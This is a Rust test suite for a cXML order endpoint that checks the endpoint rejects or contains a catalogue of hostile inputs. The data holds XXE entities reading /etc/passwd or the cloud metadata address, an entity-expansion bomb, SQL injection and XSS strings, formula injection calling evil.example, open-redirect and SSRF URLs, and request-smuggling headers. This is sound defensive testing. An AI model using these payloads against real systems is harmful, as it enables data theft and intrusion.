//! Bad input, by its number in the catalogue of bad inputs: what is answered, and what is left behind.

use std::time::{Duration, Instant};

use crate::support::{
    Answer, Letter, RETURN_URL, SECRET, Stand, credential, item, order, plain_order, proof, setup, stands,
};

/// What a document may leave behind.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Effect {
    /// Nothing but the security log.
    None,
    /// Nothing but the security log and the quarantine, where strangers' documents wait.
    Quarantine,
    /// One order or visit.
    One,
    /// It is kept with its refusal.
    Kept,
}

/// Posts bytes and holds answer and effect against what is expected.
async fn check_bytes(
    stand: &Stand,
    number: &str,
    content_type: &str,
    body: &[u8],
    code: u16,
    effect: Effect,
) -> Answer {
    let before = stand.traces().await;
    let started = Instant::now();
    let answer = stand.send("/cxml", content_type, body).await;
    let taken = started.elapsed();
    assert!(taken < Duration::from_secs(5), "{number}: took {taken:?}");
    assert_eq!(answer.status, 200, "{number}: {}", answer.text());
    assert_eq!(answer.code(), code, "{number}: {}", answer.text());
    assert!(!answer.text().contains(SECRET), "{number} echoes the secret");
    let after = stand.traces().await;
    let [exchanges, orders, visits, quarantined] = [0, 1, 2, 3].map(|at| after[at] - before[at]);
    let fits = match effect {
        Effect::None => [exchanges, orders, visits, quarantined] == [0; 4],
        Effect::Quarantine => [exchanges, orders, visits] == [0; 3] && (0..=1).contains(&quarantined),
        Effect::One => exchanges == 1 && orders + visits == 1 && quarantined == 0,
        Effect::Kept => exchanges <= 1 && orders + visits == 0 && quarantined == 0,
    };
    assert!(fits, "{number}: {effect:?}, but {before:?} became {after:?}");
    answer
}

async fn check(stand: &Stand, number: &str, text: &str, code: u16, effect: Effect) -> Answer {
    check_bytes(stand, number, "text/xml; charset=UTF-8", text.as_bytes(), code, effect).await
}

/// An order that is good, with a number of its own.
fn good(number: &str) -> String {
    Letter::of("plain", &format!("{number}@plain"), &plain_order(number)).text()
}

const DOCTYPE: &str = "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd\">";

fn with_subset(number: &str, subset: &str) -> String {
    good(number).replace(DOCTYPE, &format!("<!DOCTYPE cXML [{subset}]>"))
}

#[tokio::test]
async fn entities_are_never_expanded_or_fetched() {
    use Effect::None;
    for stand in stands().await {
        let laughs: String = (1..=9)
            .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
            .collect();
        let cases = [
            (
                "A01",
                with_subset("A01", "<!ENTITY x SYSTEM \"file:///etc/passwd\">").replace(">111<", ">&x;<"),
            ),
            (
                "A02",
                with_subset("A02", "<!ENTITY x SYSTEM \"http://169.254.169.254/\">").replace(">111<", ">&x;<"),
            ),
            (
                "A03",
                with_subset("A03", "<!ENTITY % x SYSTEM \"http://evil.example/e.dtd\"> %x;"),
            ),
            (
                "A04",
                with_subset("A04", "<!ENTITY x SYSTEM \"php://filter/read\">").replace(">111<", ">&x;<"),
            ),
            (
                "A04 ftp",
                with_subset("A04f", "<!ENTITY x SYSTEM \"ftp://evil.example/\">").replace(">111<", ">&x;<"),
            ),
            (
                "A05",
                with_subset("A05", &format!("<!ENTITY l0 \"lol\">{laughs}")).replace(">111<", ">&l9;<"),
            ),
            (
                "A06",
                with_subset("A06", &format!("<!ENTITY a \"{}\">", "a".repeat(100_000)))
                    .replace(">111<", &format!(">{}<", "&a;".repeat(50_000))),
            ),
        ];
        for (number, text) in cases {
            check(&stand, number, &text, 406, None).await;
        }
    }
}

#[tokio::test]
async fn document_types_are_read_past_and_never_followed() {
    use Effect::{None, One};
    for stand in stands().await {
        let doctype = |number: &str, text: &str| good(number).replace(DOCTYPE, text);
        let parameter =
            "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd\" [<!ENTITY % a \"b\">]>";
        for (number, text, code, effect) in [
            ("A07", doctype("A07", parameter), 200, One),
            ("A07 element", with_subset("A07e", "<!ELEMENT cXML ANY>"), 406, None),
            ("A08", doctype("A08", "<!DOCTYPE cXML SYSTEM \"http://evil.example/cXML.dtd\">"), 200, One),
            ("A09", doctype("A09", "<!DOCTYPE cXML SYSTEM \"file:///dev/random\">"), 200, One),
            ("A10 lower", doctype("A10l", "<!DOCTYPE cxml SYSTEM \"x\">"), 200, One),
            ("A10 other", doctype("A10o", "<!DOCTYPE html SYSTEM \"x\">"), 406, None),
            ("A10 public", doctype("A10p", "<!DOCTYPE cXML PUBLIC \"-//x//y\" \"x\">"), 200, One),
            ("A11", doctype("A11", ""), 200, One),
            (
                "A12",
                doctype("A12", "<?xml-stylesheet href=\"http://evil.example/\"?>").replace(
                    "</OrderRequestHeader>",
                    "<Extrinsic name=\"x\"><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/></Extrinsic></OrderRequestHeader>",
                ),
                200,
                One,
            ),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
    }
}

#[tokio::test]
async fn size_and_depth_have_limits() {
    use Effect::{None, One};
    for stand in stands().await {
        let extra = |number: &str, xml: &str| {
            good(number).replace("</OrderRequestHeader>", &format!("{xml}</OrderRequestHeader>"))
        };
        let nested = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
        let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"\"")).collect();
        let colliding: String = (0..200).map(|n| format!(" Aa{n:03}BB=\"\"")).collect();
        for (number, text, code, effect) in [
            (
                "A13",
                extra("A13", &format!("<Extrinsic name=\"x\">{nested}</Extrinsic>")),
                406,
                None,
            ),
            (
                "A14",
                extra("A14", &format!("<Extrinsic name=\"x\"{attributes}/>")),
                406,
                None,
            ),
            ("A15", extra("A15", "<Extrinsic name=\"x\" name=\"y\"/>"), 406, None),
            (
                "A16",
                extra("A16", &format!("<Extrinsic name=\"{}\"/>", "x".repeat(5_000_000))),
                499,
                None,
            ),
            (
                "A19",
                extra("A19", &format!("<Extrinsic name=\"x\"{colliding}/>")),
                200,
                One,
            ),
        ] {
            let answer = stand.post(&text).await;
            if number == "A19" && answer.code() == 406 {
                // Two hundred attributes are over the limit of one element; the time is what matters.
                continue;
            }
            if answer.code() != 200 {
                check(&stand, number, &text, code, effect).await;
            } else {
                assert_eq!(code, 200, "{number}");
            }
        }
    }
}

#[tokio::test]
async fn encodings_are_the_ones_that_were_agreed() {
    use Effect::{None, One};
    for stand in stands().await {
        let plain = "text/xml";
        let declared =
            |number: &str, name: &str| good(number).replace("encoding=\"UTF-8\"", &format!("encoding=\"{name}\""));
        for (number, name) in [
            ("A21 utf-7", "UTF-7"),
            ("A21 utf-32", "UTF-32"),
            ("A21 ebcdic", "IBM037"),
        ] {
            check_bytes(&stand, number, plain, declared(number, name).as_bytes(), 406, None).await;
        }
        let utf16 = |text: &str, mark: bool| -> Vec<u8> {
            let mark = if mark { "\u{feff}" } else { "" };
            format!("{mark}{text}")
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect()
        };
        let wide = declared("A22", "UTF-16");
        check_bytes(&stand, "A22 mark", plain, &utf16(&wide, true), 200, One).await;
        let wide = declared("A22n", "UTF-16LE");
        check_bytes(&stand, "A22 declared", plain, &utf16(&wide, false), 200, One).await;
        let marked = format!("\u{feff}{}", good("A23"));
        check_bytes(&stand, "A23", plain, marked.as_bytes(), 200, One).await;
        let umlaut = good("A24").replace(">Thing<", ">Schlüssel<");
        check_bytes(&stand, "A24", "text/xml; charset=UTF-8", umlaut.as_bytes(), 200, One).await;
        let broken = |bytes: &[u8]| -> Vec<u8> {
            let text = good("A25").replace(">Thing<", ">@@<");
            let at = text.find("@@").unwrap();
            [&text.as_bytes()[..at], bytes, &text.as_bytes()[at + 2..]].concat()
        };
        for (number, bytes) in [
            ("A25 overlong", &b"\xc0\xaf"[..]),
            ("A25 surrogate", b"\xed\xa0\x80"),
            ("A25 cut", b"\xe2\x82"),
            ("A25 nul", b"\0"),
            ("A25 reference", b"&#0;"),
            ("A26 control", b"&#x1;"),
            ("A26 raw", b"\x01"),
            ("A26 none", b"&#xFFFE;"),
        ] {
            check_bytes(&stand, number, plain, &broken(bytes), 406, None).await;
        }
    }
}

#[tokio::test]
async fn text_is_the_same_for_every_reader() {
    use Effect::{One, Quarantine};
    for stand in stands().await {
        let (head, tail) = SECRET.split_at(6);
        let secret = |number: &str, text: &str| good(number).replace(SECRET, text);
        let who = |number: &str, text: &str| {
            let mut letter = Letter::of("plain", number, &plain_order(number));
            letter.sender = proof(("DUNS", text), SECRET);
            letter.text()
        };
        for (number, text, code, effect) in [
            ("A27", who("A27", "\u{202e}111"), 401, Quarantine),
            ("A27 zero width", who("A27z", "11\u{200b}1"), 401, Quarantine),
            ("A28 comment", secret("A28", &format!("{head}<!-- -->{tail}")), 200, One),
            ("A28 cdata", secret("A28c", &format!("<![CDATA[{SECRET}]]>")), 200, One),
            ("A28 half", secret("A28h", &format!("{head}<!-- -->")), 401, Quarantine),
            ("A29", who("A29", "111<!---->.evil.com"), 401, Quarantine),
            ("A30", who("A30", "1<?x y?>11"), 200, One),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
    }
}

#[tokio::test]
async fn only_one_cxml_document_is_one() {
    use Effect::None;
    for stand in stands().await {
        let text = |number: &str| good(number);
        let swap = |number: &str, from: &str, to: &str| good(number).replace(from, to);
        for (number, text, code) in [
            ("A31 headers", swap("A31", "</Header>", "</Header><Header/>"), 406),
            ("A31 requests", swap("A31", "</Request>", "</Request><Request/>"), 406),
            ("A31 message", swap("A31", "</Request>", "</Request><Message/>"), 406),
            (
                "A33",
                format!(
                    "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>{}</soap:Body></soap:Envelope>",
                    text("A33").split("dtd\">").nth(1).unwrap()
                ),
                406,
            ),
            (
                "A34 prefix",
                swap("A34", "<cXML ", "<x:cXML xmlns:x=\"u\" ").replace("</cXML>", "</x:cXML>"),
                406,
            ),
            ("A34 namespace", swap("A34", "<cXML ", "<cXML xmlns=\"u\" "), 406),
            ("A35 empty", String::new(), 406),
            ("A35 null", "null".into(), 406),
            ("A35 json", "{\"a\": 1}".into(), 406),
            ("A35 html", "<html><body>Hello</body></html>".into(), 406),
            ("A35 pdf", "%PDF-1.7 \u{e2}".into(), 406),
            ("A36", format!("{}{}", text("A36"), "<cXML/>"), 406),
        ] {
            check(&stand, number, &text, code, None).await;
        }
        let response = "<?xml version=\"1.0\"?><cXML payloadID=\"x\" timestamp=\"2026-11-24T09:00:00Z\"><Response><Status code=\"200\" text=\"OK\"/></Response></cXML>";
        check(&stand, "A32", response, 400, None).await;
    }
}

#[tokio::test]
async fn strangers_are_told_nothing() {
    use Effect::Quarantine;
    for stand in stands().await {
        let sender = |number: &str, sender: String| {
            let mut letter = Letter::of("plain", number, &plain_order(number));
            letter.sender = sender;
            letter.text()
        };
        let wrong = check(
            &stand,
            "A37",
            &sender("A37", proof(("DUNS", "111"), "wrong")),
            401,
            Quarantine,
        )
        .await;
        let unknown = check(
            &stand,
            "A38",
            &sender("A38", proof(("DUNS", "nobody"), SECRET)),
            401,
            Quarantine,
        )
        .await;
        let told = |answer: &Answer| {
            let text = answer.document().at("Response/Status").unwrap().text.clone();
            text.split(" Reference ").next().unwrap_or_default().to_owned()
        };
        assert_eq!(told(&wrong), told(&unknown));
        for (number, sender_) in [
            ("A39 empty", proof(("DUNS", "111"), "")),
            ("A39 missing", credential(("DUNS", "111"))),
            (
                "A41",
                format!("{}{}", proof(("DUNS", "111"), SECRET), credential(("DUNS", "222"))),
            ),
            ("A46", proof(("DUNS", "111"), &format!("{SECRET}\n"))),
            ("A47", proof(("DUNS", "' OR 1=1 --"), SECRET)),
        ] {
            check(&stand, number, &sender(number, sender_), 401, Quarantine).await;
        }
        assert!(stand.count("security_event").await > 0);
        assert!(!stand.database_has(SECRET).await, "the secret is in the database");
        // Guessing does not lock the partner out.
        check(&stand, "A118", &good("A118"), 200, Effect::One).await;
    }
}

#[tokio::test]
async fn partners_speak_for_themselves_alone() {
    use Effect::{Kept, None, One};
    for stand in stands().await {
        let mut foreign = Letter::of("plain", "A40", &plain_order("A40"));
        foreign.from = credential(("DUNS", "222"));
        let mut member = Letter::of("plain", "A42", &plain_order("A42"));
        member.from =
            "<Credential domain=\"DUNS\" type=\"marketplace\"><Identity>market</Identity></Credential>".into();
        let mut rival = Letter::of("plain", "A43", &plain_order("A43"));
        rival.to = credential(("DUNS", "998"));
        let mut swapped = Letter::of("plain", "A44", &plain_order("A44"));
        std::mem::swap(&mut swapped.from, &mut swapped.to);
        let mut cases = Letter::of("ariba", "A45", &plain_order("A45"));
        cases.sender = cases.sender.replace("NetworkID", "networkid");
        cases.from = cases.from.replace("NetworkID", "NetworkId");
        let mut test = Letter::of("plain", "A48", &plain_order("A48"));
        test.mode = " deploymentMode=\"test\"".into();
        let mut production = Letter::of("trial", "A48p", &plain_order("A48p"));
        production.mode = String::new();
        for (number, letter, code, effect) in [
            ("A40", &foreign, 403, None),
            ("A42", &member, 403, None),
            ("A43", &rival, 403, None),
            ("A44", &swapped, 403, None),
            ("A45", &cases, 200, One),
            ("A48 test", &test, 403, None),
            ("A48 production", &production, 403, None),
            ("A53", &Letter::of("signed", "A53", &plain_order("A53")), 475, Kept),
        ] {
            check(&stand, number, &letter.text(), code, effect).await;
        }
        assert!(stand.count("security_event").await > 0);
    }
}

#[tokio::test]
async fn identifiers_are_text_and_nothing_else() {
    use Effect::{Kept, One};
    for stand in stands().await {
        let named = |payload: &str, order_id: &str| Letter::of("plain", payload, &plain_order(order_id)).text();
        for (number, text, code, effect) in [
            ("A70 empty", named("", "A70e"), 400, Kept),
            ("A70 long", named(&"x".repeat(5_000), "A70l"), 400, Kept),
            ("A70 path", named("../../etc/passwd", "A70p"), 200, One),
            ("A70 formula", named("=cmd()", "A70f"), 200, One),
            (
                "A47 order",
                named("A47@x", "'; DROP TABLE purchase_order; --"),
                200,
                One,
            ),
            (
                "A84",
                good("A84").replace(">Thing<", ">&lt;script&gt;alert(1)&lt;/script&gt;<"),
                200,
                One,
            ),
            (
                "A85",
                good("A85").replace(">Thing<", ">=HYPERLINK(\"http://evil.example\")<"),
                200,
                One,
            ),
            (
                "A127",
                named("A127&#10;\u{1b}[31m@x".replace('\u{1b}', "").as_str(), "A127"),
                200,
                One,
            ),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
    }
}

#[tokio::test]
async fn numbers_of_an_order_are_numbers() {
    use Effect::{Kept, One};
    for stand in stands().await {
        for (at, quantity) in [
            "-5",
            "0",
            "1e309",
            "1e3",
            "NaN",
            "0x10",
            "١٢",
            "1.000,5",
            "1234,00",
            "1,23",
            "$5",
            &"9".repeat(400),
        ]
        .into_iter()
        .enumerate()
        {
            let number = format!("A78 {quantity:.12}");
            let request = order(
                &format!("A78-{at}"),
                "type=\"new\"",
                "",
                "6.40",
                &item("1", "W-1", quantity, "3.20", ""),
            );
            check(
                &stand,
                &number,
                &Letter::of("plain", &format!("A78-{at}@x"), &request).text(),
                400,
                Kept,
            )
            .await;
        }
        let one = |number: &str, items: &str, total: &str| {
            Letter::of(
                "plain",
                &format!("{number}@x"),
                &order(number, "type=\"new\"", "", total, items),
            )
            .text()
        };
        let lines = |numbers: &[&str]| -> String {
            numbers
                .iter()
                .map(|number| item(number, "W-1", "1", "3.20", ""))
                .collect()
        };
        let basis = |quantity: &str, factor: &str| {
            item("1", "W-1", "1", "3.20", "").replace(
                "<Classification",
                &format!("<PriceBasisQuantity quantity=\"{quantity}\" conversionFactor=\"{factor}\"><UnitOfMeasure>EA</UnitOfMeasure></PriceBasisQuantity><Classification"),
            )
        };
        for (number, text, code, effect) in [
            (
                "A78 thousand",
                one("A78t", &item("1", "W-1", "1,000", "3.20", ""), "3200.00"),
                200,
                One,
            ),
            (
                "A79 negative",
                one("A79n", &item("1", "W-1", "2", "-3.20", ""), "-6.40"),
                200,
                One,
            ),
            // Thirteen in a hundred real documents have an empty amount: it is no price, and the line is held.
            (
                "A79 empty",
                one("A79e", &item("1", "W-1", "2", "", ""), "6.40"),
                200,
                One,
            ),
            (
                "A79 words",
                one("A79w", &item("1", "W-1", "2", "12.34 USD", ""), "6.40"),
                400,
                Kept,
            ),
            (
                "A79 digits",
                one(
                    "A79d",
                    &item("1", "W-1", "2", &format!("3.{}", "1".repeat(30)), ""),
                    "6.40",
                ),
                400,
                Kept,
            ),
            (
                "A80 total",
                one("A80", &item("1", "W-1", "2", "3.20", ""), "64.00"),
                200,
                One,
            ),
            (
                "A80 mixed",
                one(
                    "A80m",
                    &format!(
                        "{}{}",
                        item("1", "W-1", "1", "3.20", ""),
                        item("2", "W-1", "1", "3.20", "").replace("EUR", "USD")
                    ),
                    "6.40",
                ),
                400,
                Kept,
            ),
            ("A81 quantity", one("A81q", &basis("0", "1"), "3.20"), 400, Kept),
            ("A81 factor", one("A81f", &basis("1", "0"), "3.20"), 400, Kept),
            ("A82 twice", one("A82t", &lines(&["1", "1"]), "6.40"), 400, Kept),
            ("A82 zero", one("A82z", &lines(&["0"]), "3.20"), 400, Kept),
            ("A82 negative", one("A82n", &lines(&["-1"]), "3.20"), 400, Kept),
            (
                "A82 huge",
                one("A82h", &lines(&["18446744073709551616"]), "3.20"),
                400,
                Kept,
            ),
            ("A77 none", one("A77", "", "0.00"), 406, Kept),
            (
                "A73 old",
                good("A73").replace("timestamp=\"2026", "timestamp=\"2016"),
                200,
                One,
            ),
            (
                "A73 future",
                good("A73f").replace("timestamp=\"2026", "timestamp=\"2099"),
                200,
                One,
            ),
            (
                "A73 none",
                good("A73n").replace("timestamp=\"2026-11-24T09:00:00+00:00\"", "timestamp=\"0000-00-00\""),
                200,
                One,
            ),
        ] {
            check(&stand, number, &text, code, effect).await;
        }
        // What is doubtful is held for a person, not shipped.
        let held = stand.count("order_exception").await;
        assert!(held >= 6, "only {held} exceptions");
    }
}

#[tokio::test]
async fn carts_go_back_to_agreed_addresses_alone() {
    use Effect::Kept;
    for stand in stands().await {
        let to = |number: &str, url: &str| Letter::of("plain", number, &setup("create", "c", url, "")).text();
        for (number, url, codes) in [
            ("A88 script", "javascript:alert(1)", [400, 400]),
            ("A88 data", "data:text/html,x", [400, 400]),
            ("A88 vbscript", "vbscript:x", [400, 400]),
            ("A89", "http://buyer.example/back", [400, 400]),
            ("A90 user", "https://buyer.example@evil.example/", [400, 403]),
            ("A90 suffix", "https://buyer.example.evil.example/", [403, 403]),
            ("A90 backslash", "https://buyer.example\\@evil.example/", [400, 403]),
            ("A90 look-alike", "https://xn--buyr-5of.example/", [403, 403]),
            ("A90 dot", "https://buyer.example./", [400, 403]),
            ("A90 tab", "ht&#9;tps://evil.example/", [400, 403]),
            ("A91 loopback", "https://127.0.0.1/", [403, 403]),
            ("A91 six", "https://[::1]/", [403, 403]),
            ("A91 hex", "https://0x7f.1/", [403, 403]),
            ("A91 metadata", "https://169.254.169.254/", [403, 403]),
        ] {
            let events = stand.count("security_event").await;
            let answer = stand.post(&to(number, url)).await;
            assert!(codes.contains(&answer.code()), "{number}: {}", answer.text());
            // An address that might be meant is noted; what is no address is refused.
            let noted = stand.count("security_event").await - events;
            assert_eq!(noted, i64::from(answer.code() == 403), "{number}");
            check(
                &stand,
                number,
                &to(&format!("{number} again"), url),
                answer.code(),
                Kept,
            )
            .await;
        }
        // A92: the query is the buyer's own, and only ever an attribute's value.
        let url = "https://shop.buyer.example/back?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;";
        let answer = check(&stand, "A92", &to("A92", url), 200, Effect::One).await;
        let start = answer.start();
        let csrf = stand.get(&start).await.input("csrf").unwrap();
        let opened = stand.submit(&start, &[("csrf", &csrf)]).await;
        let base = opened.header("location").unwrap().trim_end_matches('/').to_owned();
        let csrf = stand.get(&format!("{base}/")).await.input("csrf").unwrap();
        let page = stand.submit(&format!("{base}/cancel"), &[("csrf", &csrf)]).await;
        assert!(!page.text().contains("<script>alert"), "{}", page.text());
        let policy = page.header("content-security-policy").unwrap();
        assert!(
            policy.contains("script-src 'self'") && policy.contains("frame-ancestors 'self'"),
            "A98 {policy}"
        );
        // A94: addresses elsewhere in the request are read past.
        let setup = setup(
            "create",
            "c",
            RETURN_URL,
            "<SupplierSetup><URL>http://169.254.169.254/</URL></SupplierSetup>",
        );
        check(
            &stand,
            "A94",
            &Letter::of("plain", "A94", &setup).text(),
            200,
            Effect::One,
        )
        .await;
    }
}

#[tokio::test]
async fn cookies_of_the_buyer_come_back_or_are_refused() {
    for stand in stands().await {
        let with =
            |number: &str, cookie: &str| Letter::of("plain", number, &setup("create", cookie, RETURN_URL, "")).text();
        check(
            &stand,
            "A102 long",
            &with("A102", &"x".repeat(64 << 10)),
            400,
            Effect::Kept,
        )
        .await;
        check(
            &stand,
            "A102 nested",
            &with("A102n", "<a><![CDATA[<b>]]></a>"),
            200,
            Effect::One,
        )
        .await;
        // A99: a cart of somebody else's connection.
        let foreign = item(
            "1",
            "W-1",
            "1",
            "3.20",
            "<SupplierPartAuxiliaryID>1.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</SupplierPartAuxiliaryID>",
        );
        let tampered = setup("edit", "c", RETURN_URL, &foreign);
        check(
            &stand,
            "A83",
            &Letter::of("plain", "A83", &tampered).text(),
            200,
            Effect::One,
        )
        .await;
        check(
            &stand,
            "A99 empty",
            &Letter::of("plain", "A99", &setup("edit", "c", RETURN_URL, "")).text(),
            412,
            Effect::Kept,
        )
        .await;
    }
}

#[tokio::test]
async fn wrapped_documents_are_unwrapped_within_limits() {
    use Effect::{Kept, None, One};
    for stand in stands().await {
        let related = "multipart/related; boundary=b; type=\"text/xml\"; start=\"<root>\"";
        let parts = |text: &str, more: &str| {
            format!(
                "--b\r\nContent-Type: text/xml; charset=UTF-8\r\nContent-ID: <root>\r\n\r\n{text}\r\n{more}--b--\r\n"
            )
        };
        let picture = "--b\r\nContent-Type: image/png\r\nContent-ID: <p1>\r\n\r\nPNG\r\n";
        let attached = good("A104").replace(
            "</OrderRequestHeader>",
            "<Comments>See<Attachment><URL>cid:p1</URL></Attachment></Comments></OrderRequestHeader>",
        );
        check_bytes(
            &stand,
            "A103 good",
            related,
            parts(&attached, picture).as_bytes(),
            200,
            One,
        )
        .await;
        assert_eq!(stand.count("attachment").await, 1);
        let many: String = (0..10_000)
            .map(|n| format!("--b\r\nContent-ID: <n{n}>\r\n\r\nx\r\n"))
            .collect();
        let twice = format!("{picture}{picture}");
        let missing = attached.replace("cid:p1", "cid:nowhere").replace("A104", "A104m");
        for (number, content_type, body, codes) in [
            (
                "A103 boundary",
                "multipart/related",
                parts(&good("A103"), ""),
                [406, 406],
            ),
            ("A103 many", related, parts(&good("A103"), &many), [406, 499]),
            (
                "A103 open",
                related,
                parts(&good("A103"), "").replace("--b--", ""),
                [406, 406],
            ),
            ("A104 twice", related, parts(&attached, &twice), [406, 406]),
            ("A104 missing", related, parts(&missing, picture), [406, 406]),
            (
                "A104 start",
                "multipart/related; boundary=b; start=\"<p1>\"",
                parts(&good("A104s"), picture),
                [406, 406],
            ),
            (
                "A109",
                "application/x-www-form-urlencoded",
                format!("cxml-urlencoded={}", good("A109")),
                [406, 406],
            ),
        ] {
            let answer = stand.send("/cxml", content_type, body.as_bytes()).await;
            assert!(codes.contains(&answer.code()), "{number}: {}", answer.text());
            let effect = if number == "A104 missing" { Kept } else { None };
            check_bytes(&stand, number, content_type, body.as_bytes(), answer.code(), effect).await;
        }
    }
}

#[tokio::test]
async fn the_door_answers_every_knock() {
    for stand in stands().await {
        for path in ["/cxml", "/cxml?cxml-urlencoded=%3CcXML%3E"] {
            let answer = stand.get(path).await;
            assert_eq!((answer.status, answer.code()), (200, 200), "A108");
        }
        for kind in ["AuthRequest", "SubscriptionListRequest", "QuoteRequest", "FooRequest"] {
            let text = Letter::of("plain", &format!("A116-{kind}"), &format!("<{kind}/>")).text();
            check(&stand, &format!("A116 {kind}"), &text, 450, Effect::Kept).await;
        }
        // A106: length and chunks that contradict each other never reach a document.
        let body = good("A106");
        let both = format!(
            "POST /cxml HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\
             Connection: close\r\n\r\n0\r\n\r\n{body}",
            body.len()
        );
        let before = stand.traces().await;
        let answer = stand.raw(both.as_bytes()).await;
        assert!(answer.status != 200 || answer.code() == 406, "A106: {}", answer.status);
        let short = format!(
            "POST /cxml HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: 100\r\nConnection: close\r\n\r\n{body}"
        );
        let answer = stand.raw(short.as_bytes()).await;
        assert!(
            answer.status != 200 || answer.code() == 406,
            "A106 short: {}",
            answer.status
        );
        assert_eq!(stand.traces().await, before);
        // A107: the go-ahead for a body is given, and the body read within the same limits.
        let expecting = format!(
            "POST /cxml HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: {}\r\nExpect: 100-continue\r\n\
             Connection: close\r\n\r\n{}",
            good("A107").len(),
            good("A107")
        );
        stand.raw(expecting.as_bytes()).await;
        assert_eq!(stand.traces().await[1], before[1] + 1, "A107");
    }
}
